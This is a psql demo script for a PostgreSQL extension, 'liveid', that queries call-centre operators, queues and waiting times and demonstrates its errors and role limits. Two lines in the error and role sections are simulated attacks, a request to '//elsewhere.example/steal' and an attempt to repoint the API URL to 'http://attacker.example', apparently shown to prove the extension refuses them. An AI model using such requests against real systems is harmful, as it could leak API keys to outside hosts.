-- The example session of `make demo`: what liveid can do so far.
\pset footer off
\echo
\echo '== Install: the key is set in postgresql.conf and shown to nobody'
CREATE EXTENSION liveid;
SHOW liveid.api_key;

\echo
\echo '== Operators, queues, languages and waiting times, as plain SQL'
SET liveid.organization = 'DEMO';
SELECT * FROM liveid.available_operators();
SELECT * FROM liveid.queue('6f1c2a9e-3b7d-4e2a-9c41-0d5e8f7a1b01');
SELECT string_agg(lang, ', ') AS languages FROM liveid.available_languages();
SELECT period_start, period_end, average_wait, calls FROM liveid.daily_waiting_times();

\echo
\echo '== Errors are clear, carry the right SQLSTATE, and never show the key'
\set VERBOSITY verbose
SELECT * FROM liveid.available_operators('NO-SUCH-ORG');
SET liveid.timeout = '300ms';
SELECT * FROM liveid.available_operators('FAULT-DELAY-2000');
RESET liveid.timeout;
SELECT liveid.request('GET', '//elsewhere.example/steal');
\set VERBOSITY default

\echo
\echo '== Roles: liveid_user may watch, not reconfigure'
CREATE ROLE demo_operator LOGIN IN ROLE liveid_user;
SET ROLE demo_operator;
SELECT * FROM liveid.available_operators('DEMO');
SET liveid.url = 'http://attacker.example';
SELECT liveid.request('GET', '/sim/stats');
RESET ROLE;
DROP ROLE demo_operator;

\echo
\echo '== Coming next: payloads from your tables, liveid.service_start and the call ledger'
